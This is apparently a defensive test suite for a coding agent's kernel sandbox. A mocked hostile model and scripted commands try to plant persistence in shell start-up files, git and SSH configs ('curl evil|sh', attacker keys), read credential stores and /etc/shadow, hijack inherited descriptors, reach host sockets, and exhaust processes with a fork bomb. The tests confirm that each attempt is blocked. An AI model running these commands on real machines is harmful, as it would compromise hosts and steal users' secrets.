/**
 * The kernel sandbox's own doors, attacked through `trellis sandbox` and `trellis exec`: start-up files
 * in a writable home (class 4), secrets on disk and in the environment (5), host Unix sockets (6),
 * inherited descriptors (7), and process and memory limits (14). Every assertion is made on the host.
 */
import { expect, test } from '@playwright/test';
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { mockConfiguredHome, trellis, type ExecRun } from '../support/exec-harness';
import { startMockModel } from '../mock-model';
import { canary, changedPaths, hostileWorld, type HostileWorld } from './hostile-world';

const call = (cmd: string) => ({
  type: 'function_call' as const,
  name: 'exec_command',
  arguments: JSON.stringify({ cmd }),
});
const say = (text: string) => ({ items: [{ type: 'message' as const, text }] });

let world: HostileWorld;
let trellisHome: string;

test.beforeEach(() => {
  world = hostileWorld();
  trellisHome = path.join(path.dirname(world.home), 'trellis-home');
  fs.mkdirSync(trellisHome);
});
test.afterEach(() => world.cleanup());

/** `trellis sandbox [flags] -- bash -c SCRIPT` with the hostile home as HOME. */
function sandbox(
  script: string,
  options: { cwd?: string; flags?: string[]; env?: Record<string, string> } = {},
): Promise<ExecRun> {
  const flags = options.flags ?? ['--sandbox', 'workspace-write'];
  return trellis(['sandbox', ...flags, '--', 'bash', '-c', script], {
    home: trellisHome,
    cwd: options.cwd ?? world.home,
    env: { HOME: world.home, ...options.env },
  }).done;
}

test.describe('class 4: start-up files in a writable home', () => {
  const ATTACKS = [
    'echo "curl evil|sh" >> .profile',
    'echo "curl evil|sh" >> .bashrc',
    'echo "curl evil|sh" > .zshrc',
    'echo "curl evil|sh" > .zshenv',
    'printf "[core]\\n\\tfsmonitor = sh -c evil\\n" > .gitconfig',
    'mkdir -p .config/git && printf "[core]\\n\\tpager = evil\\n" > .config/git/config',
    'mkdir -p .config/autostart && echo "[Desktop Entry]" > .config/autostart/evil.desktop',
    'mkdir -p .config/systemd/user && echo "[Service]" > .config/systemd/user/evil.service',
    'mkdir -p .local/bin && printf "#!/bin/sh\\nevil\\n" > .local/bin/git && chmod +x .local/bin/git',
    'mkdir -p bin && echo evil > bin/ls',
    'echo "ssh-ed25519 AAAA attacker" >> .ssh/authorized_keys',
    'echo "Host *\\n  ProxyCommand evil" >> .ssh/config',
    'echo "node-options=--require /var/tmp/evil.js" >> .npmrc',
    'mkdir -p .config/pip && echo "[global]\\nindex-url = http://evil" > .config/pip/pip.conf',
    'mkdir -p .cargo && echo "[target.x86_64-unknown-linux-gnu]\\nrunner = \\"evil\\"" > .cargo/config.toml',
    'echo "autocmd VimEnter * !evil" > .vimrc',
  ];

  test('the home as the working folder: no start-up file is created or changed, existing or not', async () => {
    const before = world.snapshot();
    const run = await sandbox(ATTACKS.map((a) => `(${a}) 2>/dev/null`).join('; ') + '; echo work > ordinary.txt');
    const after = world.snapshot();
    expect(run.code, run.stderr).toBe(0);
    // The one file ordinary work wrote is the only change on the host.
    expect(changedPaths(before, after)).toEqual([path.join(world.home, 'ordinary.txt')]);
  });

  test('the other routes to the same files: rename the parent, replace by rename, link, ancestor as root', async () => {
    fs.mkdirSync(path.join(world.home, '.config'));
    const before = world.snapshot();
    const attempts = [
      // Move the folder holding a protected path away and make it again.
      'mv .config .config-old && mkdir -p .config/autostart && echo x > .config/autostart/evil.desktop',
      // Replace a protected file by renaming another over it, or remove it first.
      'echo evil > /tmp/rc && mv -f /tmp/rc .bashrc',
      'rm -f .bashrc; echo evil > .bashrc',
      // A symlink or hard link where a start-up file would be.
      'ln -s /var/tmp/evil.sh .profile',
      'echo evil > x && ln x .zshrc',
      // The home itself renamed away (it is the root: refused) and a new one made.
      `cd .. && mv ${path.basename(world.home)} h2`,
    ];
    for (const script of attempts) {
      const run = await sandbox(`${script} 2>&1; exit 0`);
      expect(run.code, run.stderr).toBe(0);
    }
    fs.rmSync(path.join(world.home, 'x'), { force: true });
    expect(changedPaths(before, world.snapshot())).toEqual([]);
    // The home's parent as the working folder (an ancestor holds the home): the same protection.
    const ancestor = await sandbox(
      `mv home h3 2>&1; echo evil >> home/.profile 2>&1; mkdir -p home/.config/git 2>&1; echo x > home/.config/git/config 2>&1; exit 0`,
      { cwd: path.dirname(world.home) },
    );
    expect(ancestor.code, ancestor.stderr).toBe(0);
    expect(changedPaths(before, world.snapshot())).toEqual([]);
  });

  test('start-up files moved by XDG_CONFIG_HOME, XDG_DATA_HOME, ZDOTDIR or GIT_CONFIG_GLOBAL into a writable root', async () => {
    const ws = path.join(path.dirname(world.home), 'ws');
    fs.mkdirSync(path.join(ws, 'cfg'), { recursive: true });
    const env = {
      XDG_CONFIG_HOME: path.join(ws, 'cfg'),
      XDG_DATA_HOME: path.join(ws, 'data'),
      ZDOTDIR: path.join(ws, 'zsh'),
      GIT_CONFIG_GLOBAL: path.join(ws, 'gitconfig'),
    };
    const attacks = [
      'mkdir -p cfg/git && echo "[core] fsmonitor = evil" > cfg/git/config',
      'mkdir -p cfg/autostart && echo evil > cfg/autostart/x.desktop',
      'mkdir -p data/systemd/user && echo evil > data/systemd/user/x.service',
      'mkdir -p zsh && echo evil > zsh/.zshrc',
      'echo "[core] pager = evil" > gitconfig',
      'mv cfg cfg2 && mkdir -p cfg/git && echo evil > cfg/git/config',
    ];
    const run = await sandbox(attacks.map((a) => `(${a}) 2>/dev/null`).join('; ') + '; echo work > ordinary.txt', {
      cwd: ws,
      env,
    });
    expect(run.code, run.stderr).toBe(0);
    const left = fs.readdirSync(ws, { recursive: true, encoding: 'utf8' }).sort();
    expect(left).toEqual(['cfg', 'ordinary.txt']);
  });

  test('a hostile model under trellis exec in the home cannot plant a start-up file', async () => {
    const model = await startMockModel({
      turns: [
        {
          items: [
            call(
              'echo "curl evil|sh" >> ~/.profile; mkdir -p ~/.config/autostart; echo evil > ~/.config/autostart/x.desktop; mkdir -p ~/.local/bin; echo evil > ~/.local/bin/ls; echo evil >> ~/.gitconfig',
            ),
          ],
        },
        say('done'),
      ],
    });
    const home = mockConfiguredHome(model.url, '');
    const before = world.snapshot();
    const run = await trellis(
      ['exec', '-s', 'workspace-write', '-a', 'never', '--skip-git-repo-check', 'set up my shell'],
      { home, cwd: world.home, env: { HOME: world.home } },
    ).done;
    await model.close();
    expect(run.code, run.stderr).toBe(0);
    expect(changedPaths(before, world.snapshot())).toEqual([]);
    expect(JSON.stringify(model.requests[1].body)).toMatch(/Permission denied|Read-only file system|Not a directory/);
  });
});

test.describe('class 5: secrets on disk and in the environment', () => {
  test('credential stores developers have are unreadable, by name, by search and by copy', async () => {
    const more: Record<string, string> = {
      '.yarnrc.yml': `npmAuthToken: ${canary('yarn')}\n`,
      '.config/pip/pip.conf': `[global]\nindex-url = https://u:${canary('pip')}@pypi.example/simple\n`,
      '.pypirc': `[pypi]\npassword = ${canary('pypi')}\n`,
      '.docker/config.json': `{"auths":{"x":{"auth":"${canary('docker')}"}}}\n`,
      '.kube/config': `users:\n- user:\n    token: ${canary('kube')}\n`,
      '.config/gcloud/credentials.db': canary('gcloud'),
      '.password-store/bank.gpg': canary('pass'),
      '.mozilla/firefox/p/cookies.sqlite': canary('cookies'),
      '.config/google-chrome/Default/Login Data': canary('chrome'),
      '.bash_history': `export TOKEN=${canary('history')}\n`,
      '.pgpass': `db:5432:*:u:${canary('pgpass')}\n`,
      '.git-credentials': `https://u:${canary('gitcred')}@github.com\n`,
    };
    for (const [name, text] of Object.entries(more)) {
      fs.mkdirSync(path.dirname(path.join(world.home, name)), { recursive: true });
      fs.writeFileSync(path.join(world.home, name), text);
    }
    const secrets = [...Object.values(world.secrets), ...Object.values(more).map((t) => /CANARY-[\w-]+/.exec(t)![0])];
    const scripts = [
      `cat ${[...world.secretFiles, ...Object.keys(more).map((n) => path.join(world.home, n))].map((f) => JSON.stringify(f)).join(' ')}`,
      'grep -rah CANARY ~ 2>/dev/null',
      'tar cf - -C ~ . 2>/dev/null | strings',
      'cp -r ~/.ssh ~/.aws ~/.docker ./loot 2>&1; cat ./loot/* 2>&1',
      'find ~ -type f -exec cat {} + 2>/dev/null',
    ];
    for (const script of scripts) {
      const run = await sandbox(`${script}; exit 0`, { cwd: world.outside, flags: ['--sandbox', 'read-only'] });
      for (const secret of secrets) expect(run.stdout + run.stderr, `${script} leaked ${secret}`).not.toContain(secret);
    }
  });

  test("the machine's password and key files are hidden from a sandbox running as root", async () => {
    test.skip(process.getuid?.() !== 0, 'only root can read /etc/shadow on the host to compare');
    const shadow = fs.readFileSync('/etc/shadow', 'utf8').split('\n')[0];
    const run = await sandbox(
      'cat /etc/shadow /etc/gshadow /etc/ssh/ssh_host_*_key /root/.ssh/* 2>&1; grep -r . /etc/sudoers.d 2>&1; exit 0',
      { cwd: world.outside, flags: ['--sandbox', 'read-only'] },
    );
    expect(run.stdout).not.toContain(shadow);
    expect(run.stdout).not.toMatch(/PRIVATE KEY/);
    expect(run.stdout).toMatch(/Permission denied/);
  });

  test('credentials in the environment are removed by their shape, whatever their names', async () => {
    const pw = canary('dbpass');
    const values: Record<string, string> = {
      DATABASE_URL: `postgres://app:${pw}@db.internal:5432/prod`,
      CACHE: `redis://:${canary('redis')}@cache:6379`,
      GH_PAT: `ghp_${'a'.repeat(36)}`,
      BUILD_HELPER: `github_pat_${'B'.repeat(40)}`,
      SLACK_WEBHOOK_URL: `https://hooks.slack.com/services/T0/B0/${canary('slack')}`,
      NOTIFY: `https://hooks.slack.com/services/T1/B1/${canary('slack2')}`,
      SOME_ID: `AKIA${'Q'.repeat(16)}`,
      LLM: `sk-ant-api03-${'c'.repeat(40)}`,
      SESSION: `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.${'d'.repeat(43)}`,
      REGISTRY: `npm_${'e'.repeat(36)}`,
      CONN: `Server=db;User Id=sa;Password=${canary('ado')};`,
    };
    const run = await sandbox('env', {
      cwd: world.outside,
      flags: ['--sandbox', 'read-only'],
      env: { ...values, HARMLESS_URL: 'https://git@example.com/r.git', HTTP_PROXY_HOST: 'http://proxy:3128' },
    });
    expect(run.code, run.stderr).toBe(0);
    for (const [name, value] of Object.entries(values)) expect(run.stdout, name).not.toContain(value);
    expect(run.stdout).toContain('HARMLESS_URL=https://git@example.com/r.git');
    expect(run.stdout).toContain('HTTP_PROXY_HOST=http://proxy:3128');

    // Through trellis exec: the command's output goes back to the model, which must never see them.
    const model = await startMockModel({ turns: [{ items: [call('env; cat ~/.npmrc ~/.netrc')] }, say('done')] });
    const home = mockConfiguredHome(model.url, '');
    const exec = await trellis(['exec', '-s', 'read-only', '-a', 'never', '--skip-git-repo-check', 'print env'], {
      home,
      cwd: world.outside,
      env: { HOME: world.home, ...values },
    }).done;
    await model.close();
    expect(exec.code, exec.stderr).toBe(0);
    const sent = JSON.stringify(model.requests.map((r) => r.body));
    expect(sent).toContain('PATH=');
    for (const [name, value] of Object.entries(values)) expect(sent, name).not.toContain(value);
    for (const secret of [world.secrets.npm, world.secrets.netrc]) expect(sent).not.toContain(secret);
  });
});

/** Runs the built trellis with extra descriptors open at these numbers (as a launcher or harness would leave them). */
function trellisWithDescriptors(
  args: string[],
  extra: Record<number, number>,
  env: Record<string, string>,
  cwd: string,
): Promise<ExecRun> {
  const top = Math.max(...Object.keys(extra).map(Number));
  const stdio: Array<'ignore' | 'pipe' | number> = ['pipe', 'pipe', 'pipe'];
  for (let fd = 3; fd <= top; fd++) stdio.push(extra[fd] ?? 'ignore');
  const child = spawn(process.execPath, [path.resolve('bin/trellis.js'), ...args], {
    cwd,
    env: { ...process.env, ...env },
    stdio,
  });
  let stdout = '';
  let stderr = '';
  child.stdout!.on('data', (d) => (stdout += d));
  child.stderr!.on('data', (d) => (stderr += d));
  child.stdin!.end();
  return new Promise((resolve) => child.on('close', (code, signal) => resolve({ code, signal, stdout, stderr })));
}

test.describe('class 7: inherited descriptors', () => {
  const ATTACK = [
    'ls -l /proc/self/fd /proc/$$/fd',
    'cat /proc/self/fd/200 /proc/$$/fd/200',
    'cat <&200',
    'for fd in 9 30 200 201; do cat /proc/self/fd/$fd 2>/dev/null; done',
    'echo "curl evil|sh" >&30',
    'echo "curl evil|sh" >> /proc/self/fd/30',
    'echo "curl evil|sh" >> /dev/fd/30',
    'python3 -c "import os; os.write(30, b\"evil\\n\"); print(os.read(200, 999))"',
    'true',
  ]
    .map((a) => `(${a}) 2>&1`)
    .join('; ');

  for (const entry of ['sandbox', 'exec'] as const) {
    test(`a hidden key on fd 200 and ~/.bashrc open for append on fd 30 do not reach a command under trellis ${entry}`, async () => {
      const key = fs.openSync(world.secretFiles[0], 'r');
      const rc = fs.openSync(path.join(world.home, '.bashrc'), 'a');
      const before = world.snapshot();
      let run: ExecRun;
      let seen = '';
      try {
        const extra = { 200: key, 30: rc, 9: key, 201: rc };
        if (entry === 'sandbox') {
          run = await trellisWithDescriptors(
            ['sandbox', '--sandbox', 'workspace-write', '--', 'bash', '-c', ATTACK],
            extra,
            { HOME: world.home, TRELLIS_HOME: trellisHome },
            world.outside,
          );
          seen = run.stdout + run.stderr;
        } else {
          const model = await startMockModel({ turns: [{ items: [call(ATTACK)] }, say('done')] });
          const home = mockConfiguredHome(model.url, '');
          run = await trellisWithDescriptors(
            ['exec', '-s', 'workspace-write', '-a', 'never', '--skip-git-repo-check', 'look around'],
            extra,
            { HOME: world.home, TRELLIS_HOME: home },
            world.outside,
          );
          await model.close();
          seen = JSON.stringify(model.requests.map((r) => r.body)) + run.stdout + run.stderr;
          expect(seen).toContain('/proc/self/fd'); // the listing reached the model: the command ran
        }
      } finally {
        fs.closeSync(key);
        fs.closeSync(rc);
      }
      expect(run.code, run.stderr).toBe(0);
      expect(seen).not.toContain(world.secrets.ssh);
      expect(seen).not.toMatch(/-> .*(id_ed25519|\.bashrc)/);
      expect(changedPaths(before, world.snapshot())).toEqual([]);
    });
  }
});

test.describe('class 6: host sockets', () => {
  /** A host daemon listening on a Unix socket (path or abstract), counting who reached it. */
  async function daemon(address: string): Promise<{ reached: () => number; close: () => void }> {
    let count = 0;
    const server = net.createServer((c) => {
      count++;
      c.end('DAEMON-ANSWERED\n');
    });
    await new Promise<void>((resolve) => server.listen(address, resolve));
    return { reached: () => count, close: () => server.close() };
  }

  const clients = (target: string) => [
    `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${target}'); print(s.recv(99))"`,
    `node -e "require('net').connect('${target}').on('data', d => process.stdout.write(d)).on('error', e => { console.error(e.message); process.exit(1) })"`,
    `curl -s --max-time 3 --unix-socket '${target}' http://x/`,
    `python3 -c "import socket; s=socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'x', '${target}')"`,
    `python3 -c "import socket; a,b=socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b'x', '${target}')"`,
  ];

  for (const network of [
    ['--network', 'off'],
    ['--allow-host', 'example.com'],
  ]) {
    test(`with ${network.join(' ')}, a daemon's socket outside the roots, inside a root, by a symlink or abstract is unreachable`, async () => {
      const ws = path.join(path.dirname(world.home), 'ws');
      fs.mkdirSync(ws);
      const outside = await daemon(path.join(world.outside, 'docker.sock'));
      const inside = await daemon(path.join(ws, 'dev-server.sock'));
      const abstract = await daemon('\0trellis-adversary-abstract');
      fs.symlinkSync(path.join(world.outside, 'docker.sock'), path.join(ws, 'link.sock'));
      try {
        const targets = [
          path.join(world.outside, 'docker.sock'),
          path.join(ws, 'dev-server.sock'),
          path.join(ws, 'link.sock'),
        ];
        const script = [
          ...targets.flatMap(clients),
          `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect(b'\\0trellis-adversary-abstract'); print(s.recv(99))"`,
        ]
          .map((c) => `(${c}) 2>&1`)
          .join('; ');
        const run = await sandbox(`${script}; exit 0`, {
          cwd: ws,
          flags: ['--sandbox', 'workspace-write', ...network],
        });
        expect(run.code, run.stderr).toBe(0);
        expect(run.stdout).not.toContain('DAEMON-ANSWERED');
        expect(run.stdout).toMatch(/Operation not permitted|EPERM/);
        expect([outside.reached(), inside.reached(), abstract.reached()]).toEqual([0, 0, 0]);
      } finally {
        for (const d of [outside, inside, abstract]) d.close();
      }
    });
  }

  test('a hostile model under trellis exec cannot reach a host daemon socket, and ordinary work still runs', async () => {
    const d = await daemon(path.join(world.outside, 'agent.sock'));
    const target = path.join(world.outside, 'agent.sock');
    const model = await startMockModel({
      turns: [
        {
          items: [
            call(
              `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${target}'); print(s.recv(99))"; node -e "console.log('node ran', require('child_process').execSync('echo child').toString().trim())"`,
            ),
          ],
        },
        say('done'),
      ],
    });
    const home = mockConfiguredHome(model.url, '');
    try {
      const run = await trellis(
        ['exec', '-s', 'workspace-write', '-a', 'never', '--skip-git-repo-check', 'talk to the daemon'],
        { home, cwd: world.outside, env: { HOME: world.home } },
      ).done;
      expect(run.code, run.stderr).toBe(0);
      const sent = JSON.stringify(model.requests[1].body);
      expect(sent).toContain('node ran child');
      expect(sent).not.toContain('DAEMON-ANSWERED');
      expect(d.reached()).toBe(0);
    } finally {
      await model.close();
      d.close();
    }
  });
});

test.describe('class 14: processes and memory', () => {
  const withLimits = (toml: string) => fs.writeFileSync(path.join(trellisHome, 'config.toml'), `[sandbox]\n${toml}\n`);
  const hostProcesses = (marker: string) =>
    fs.readdirSync('/proc').filter(
      (pid) =>
        /^\d+$/.test(pid) &&
        (() => {
          try {
            return fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(marker);
          } catch {
            return false;
          }
        })(),
    ).length;

  test('a process flood stops at [sandbox] max_processes, a fork bomb ends, and nothing is left running', async () => {
    withLimits('max_processes = 100');
    const marker = `31.${Date.now() % 1000}`;
    // A program that forks until refused, then says how many children it got.
    const forker = `import os, time, sys\nn = 0\nfor i in range(400):\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n    if pid == 0:\n        time.sleep(float(sys.argv[1])); os._exit(0)\n    n += 1\nprint('forked', n, flush=True)\n`;
    const flood = await sandbox(`python3 -c "$FORKER" ${marker}`, {
      cwd: world.outside,
      flags: ['--sandbox', 'read-only'],
      env: { FORKER: forker },
    });
    expect(flood.code, flood.stderr).toBe(0);
    const running = Number(/forked (\d+)/.exec(flood.stdout)?.[1]);
    expect(running).toBeGreaterThan(10);
    expect(running).toBeLessThan(100);
    // The sandbox's pid namespace ends with the command: every process in it is killed (reaping takes a moment).
    await expect.poll(() => hostProcesses(marker), { timeout: 10_000 }).toBe(0);
    const bomb = await sandbox("timeout -s KILL 3 bash -c 'f(){ f | f & }; f' 2>/dev/null; echo bomb-over", {
      cwd: world.outside,
      flags: ['--sandbox', 'read-only'],
    });
    expect(bomb.stdout).toContain('bomb-over');
  });

  test('a 2 GiB allocation is refused by default, in node, python and by many processes; ordinary work runs', async () => {
    // Each part fills 900 MiB, then waits (up to 10 s) until all three hold theirs at once: only then does it report.
    const PART = `import os, sys, time\nb = b'x' * (900 * 1024 ** 2)\nopen('/tmp/ready-' + sys.argv[1], 'w').close()\nt = time.time()\nwhile len([f for f in os.listdir('/tmp') if f.startswith('ready-')]) < 3 and time.time() - t < 10:\n    time.sleep(0.1)\nif len([f for f in os.listdir('/tmp') if f.startswith('ready-')]) == 3: print('ALLOCATED part', flush=True)\n`;
    const run = await sandbox(
      [
        'node -e "Buffer.alloc(2 * 1024 ** 3, 1); console.log(\'ALLOCATED node\')"',
        'python3 -c "b = bytearray(2 * 1024 ** 3); print(\'ALLOCATED python\')"',
        'for i in 1 2 3; do python3 -c "$PART" $i & done; wait',
        "node -e \"console.log('node ok ' + (require('os').cpus().length > 0))\"",
        'git --version',
        'npm --version',
      ]
        .map((c) => `(${c}) 2>&1`)
        .join('; '),
      { cwd: world.outside, flags: ['--sandbox', 'read-only'], env: { PART } },
    );
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).not.toMatch(/ALLOCATED (node|python)/);
    // Three 900 MiB parts: each fits a process's limit, together they pass 2 GiB where the whole command is counted.
    if (process.getuid?.() === 0) expect((run.stdout.match(/ALLOCATED part/g) ?? []).length).toBeLessThan(3);
    expect(run.stdout).toContain('node ok true');
    expect(run.stdout).toMatch(/git version/);
    expect(run.stdout).toMatch(/^\d+\.\d+\.\d+$/m);
  });

  test('a hostile model under trellis exec meets the same limits: its flood stops and its allocation fails', async () => {
    const model = await startMockModel({
      turns: [
        {
          items: [
            call(
              `ulimit -u; ulimit -d; python3 -c "$FORKER" 5; python3 -c "b = bytearray(600 * 1024 ** 2); print('ALLOCATED')"`,
            ),
          ],
        },
        say('done'),
      ],
    });
    const home = mockConfiguredHome(model.url, '[sandbox]\nmax_processes = 50\nmax_memory_mb = 512\n');
    const forker = `import os, time, sys\nn = 0\nfor i in range(200):\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n    if pid == 0:\n        time.sleep(float(sys.argv[1])); os._exit(0)\n    n += 1\nprint('forked', n, flush=True)\n`;
    const run = await trellis(['exec', '-s', 'read-only', '-a', 'never', '--skip-git-repo-check', 'go wild'], {
      home,
      cwd: world.outside,
      env: { HOME: world.home, FORKER: forker },
    }).done;
    await model.close();
    expect(run.code, run.stderr).toBe(0);
    const input = (model.requests[1].body as { input: Array<{ type: string; output?: string }> }).input;
    const output = input.find((item) => item.type === 'function_call_output')?.output ?? '';
    expect(output).toContain(`50\n${512 * 1024}\n`);
    expect(Number(/forked (\d+)/.exec(output)?.[1])).toBeLessThan(50);
    expect(output).toContain('MemoryError');
    expect(output).not.toContain('ALLOCATED');
  });

  test('the limits come from config and a command cannot raise them', async () => {
    withLimits('max_processes = 77\nmax_memory_mb = 300');
    const run = await sandbox(
      'ulimit -u; ulimit -d; ulimit -d unlimited 2>&1 || echo cannot-raise; ulimit -u 100000 2>&1 || echo cannot-raise',
      { cwd: world.outside, flags: ['--sandbox', 'read-only'] },
    );
    expect(run.stdout.split('\n').slice(0, 2)).toEqual(['77', String(300 * 1024)]);
    expect(run.stdout.match(/cannot-raise/g)).toHaveLength(2);
    const bad = await sandbox('true', { cwd: world.outside, flags: ['--sandbox', 'read-only'] }).then(() => {
      withLimits('max_processes = -1');
      return sandbox('true', { cwd: world.outside, flags: ['--sandbox', 'read-only'] });
    });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/max_processes/);
  });
});
